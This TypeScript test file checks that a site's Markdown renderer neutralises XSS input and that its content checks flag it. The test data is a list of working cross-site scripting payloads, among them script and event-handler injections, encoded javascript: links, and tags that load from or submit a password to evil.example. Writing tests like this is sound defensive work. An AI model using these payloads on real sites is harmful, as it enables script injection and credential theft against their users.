import { createSatteriMarkdownProcessor } from '@astrojs/markdown-satteri';
import { describe, expect, it } from 'vitest';
import { markdownFlaws } from '../../../content-checks/markdown/markdown-flaws.ts';
import { renderText } from '../../../content-checks/markdown/rendered.ts';
import { unsafeParts } from '../../../content-checks/markdown/unsafe.ts';
import { safeMarkdown } from '../../../integrations/safe-markdown.ts';
import { unsafeTagsIn } from '../../../src/content/safe-html.ts';
import { article } from '../../support/content-folder.ts';
import { findings, twins } from './findings.ts';

const dangerous = [
  '<script>alert(1)</script>',
  '<script src=https://evil.example/x.js></script>',
  '<ScRiPt\n>alert(1)</sCrIpT\n>',
  '<img src=x onerror=alert(1)>',
  'Text <img src="x" OnError="alert(1)"> text',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<p style="position:fixed;inset:0">x</p>',
  '<div onclick="alert(1)">x</div>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror="alert(1)"></video>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<form id="account"><input id="token"></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/help" target="_top" onclick="alert(1)">x</a>',
  '<x-element is="shell">x</x-element>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](vbscript:msgbox)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](file:///etc/passwd)',
  '[x](//evil.example)',
  '[x][a]\n\n[a]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg/onload=alert(1)>)',
];

/** Not HTML for Markdown, but perhaps for a browser. */
const almostHtml = [
  '<img/src=x/onerror=alert(1)//',
  '<svg/onload=alert(1)>',
  '<script/x>alert(1)</script',
  '<a<b>',
];

const harmless = [
  '## A heading',
  'A **word**, an *other*, ~~none~~, `code`, a [link](/help#a "title"), [out](https://example.com/?a=1&b=2).',
  '[Write](mailto:help@example.com) or [call](tel:+62211234567), <https://example.com>.',
  '- a\n- b\n\n3. c\n4. d\n\n> quoted\n\n---\n\nline  \nbreak',
  '| a | b |\n|---|---|\n| 1 | 2 |',
  '```js\nconst a = "<script>";\n```',
  '![A moon](../../pictures/moon.webp)',
  'Less is `<` more: 1 < 2 & 3 > 2, "quoted" and \'so\'.',
];

const site = await safeMarkdown().createRenderer({});
const plain = await createSatteriMarkdownProcessor({ syntaxHighlight: false });

const tags =
  /^<(?:h[1-6]|p|br|hr|blockquote|pre|code|[uo]l|li|table|thead|tbody|t[rhd]|a|img|strong|em|del)(?: (?:id|href|title|alt|src|start|__ASTRO_IMAGE_)="[^"<>]*")*(?: \/)?>$/;
const address = /(?:href|src)="(?!(?:https?|mailto|tel):)(?:[a-z][a-z0-9+.-]*:|\/\/)/i;

describe('dangerous Markdown', () => {
  it.each([...dangerous, ...almostHtml])('%j is rendered inert', async (markdown) => {
    const { code } = await site.render(markdown);
    for (const tag of code.match(/<[a-z!][^>]*>?/gi) ?? []) {
      expect(tag).toMatch(tags);
      expect(tag).not.toMatch(address);
    }
  });

  it.each(dangerous)('%j is refused by the content check', async (body) => {
    const text = await renderText(body);
    const found = markdownFlaws(body, text).length + unsafeParts('articles/id/a.md', text).length;
    expect(found).toBeGreaterThan(0);
  });

  it('is refused with its file and place', async () => {
    expect(await findings(twins('articles/a', article(), article({}, '[x](javascript:alert(1))')))).toEqual([
      'Texts | articles/en/a.md | <a href="javascript:alert(1)">: The page does not show this. Write it in Markdown; an address begins with /, https:, mailto: or tel:.',
    ]);
  });
});

it.each(harmless)('%j is rendered unchanged', async (markdown) => {
  const { code } = await plain.render(markdown);
  expect(unsafeTagsIn(code)).toEqual([]);
  const shown = (html: string) => html.replaceAll(' />', '>').replaceAll('&quot;', '"');
  expect(shown((await site.render(markdown)).code)).toBe(shown(code));
});
